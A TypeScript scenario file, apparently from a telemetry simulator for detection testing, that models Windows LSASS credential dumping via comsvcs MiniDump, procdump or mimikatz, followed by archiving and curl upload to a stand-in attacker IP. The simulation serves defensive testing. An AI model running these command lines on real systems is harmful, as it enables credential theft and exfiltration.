/**
 * LSASS memory dump from an elevated shell, in one of three well-known ways (chosen by the
 * scenario's random stream, or params.variant): comsvcs.dll MiniDump through rundll32,
 * Sysinternals procdump, or a mimikatz-like tool. The dump is then archived and sent out.
 */
import { CMD, CONHOST, CONHOST_CMD, RUNDLL32, S32 } from '../paths.js';
import { attackerIp, type Scenario } from './types.js';

export const CREDENTIAL_DUMP_VARIANTS = ['comsvcs-minidump', 'procdump', 'mimikatz'] as const;

export const credentialDumping: Scenario = {
  name: 'credential-dumping',
  summary: 'An elevated shell dumps LSASS memory (rundll32 comsvcs.dll MiniDump <lsass pid>, procdump -ma lsass.exe, or mimikatz sekurlsa::logonpasswords), archives the dump and uploads it.',
  techniques: ['T1003.001', 'T1218.011', 'T1057', 'T1560.001', 'T1041'],
  target: 'none',
  check: (host) => (host.os === 'windows' ? undefined : 'credential-dumping targets LSASS: it needs a Windows host'),
  build(ctx) {
    const { host, atMs: at, rng, params } = ctx;
    const b = ctx.on(host);
    const d = ctx.desktop(host, at - 60_000);
    const lsass = ctx.boot(host).get('lsass');
    const who = { ...d.who, integrity: 'High' };
    const shell = b.spawn(at, d.shell, CMD, '"C:\\Windows\\system32\\cmd.exe" ', who);
    const con = b.spawn(at + 10, shell, CONHOST, CONHOST_CMD);
    const variant = CREDENTIAL_DUMP_VARIANTS[params['variant'] ?? rng.int(CREDENTIAL_DUMP_VARIANTS.length)] ?? 'comsvcs-minidump';
    let t = at + 8000 + rng.int(10_000);
    const run = (image: string, cmd: string, ms: number, code = 0) => {
      const p = b.spawn(t, shell, image, cmd);
      b.exit(t + ms, p, code);
      t += ms + 3000 + rng.int(12_000);
      return p;
    };
    run(`${S32}tasklist.exe`, 'tasklist  /fi "imagename eq lsass.exe"', 600 + rng.int(400));
    const dump = variant === 'procdump' ? 'C:\\Users\\Public\\lsass.dmp' : 'C:\\Windows\\Temp\\debug.bin';
    if (variant === 'comsvcs-minidump') {
      run(RUNDLL32, `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} ${dump} full`, 2500 + rng.int(3000));
    } else if (variant === 'procdump') {
      run('C:\\Users\\Public\\procdump64.exe', `procdump64.exe -accepteula -ma lsass.exe ${dump}`, 3000 + rng.int(3000));
    } else {
      run('C:\\Users\\Public\\mk.exe', 'mk.exe "privilege::debug" "sekurlsa::logonpasswords" "exit"', 1500 + rng.int(1500));
    }
    const archive = 'C:\\Users\\Public\\diag.7z';
    if (variant !== 'mimikatz') run('C:\\Program Files\\7-Zip\\7z.exe', `"C:\\Program Files\\7-Zip\\7z.exe" a -mx9 -pInfected2025 ${archive} ${dump}`, 4000 + rng.int(4000));
    const ip = attackerIp(rng);
    const upload = b.spawn(t, shell, `${S32}curl.exe`, `curl.exe -k -s -F "f=@${variant === 'mimikatz' ? 'C:\\Users\\Public\\out.txt' : archive}" https://${ip}/upload`);
    b.connect(t + 400, upload, ip, 443, variant === 'mimikatz' ? 8000 + rng.int(8000) : 9_000_000 + rng.int(30_000_000), 900);
    b.exit(t + 6000 + rng.int(20_000), upload);
    t += 40_000;
    run(`${S32}cmd.exe`, `cmd.exe /c del /f /q ${dump} ${archive}`, 300);
    b.exit(t + 5000, con);
    b.exit(t + 5010, shell);
  },
};
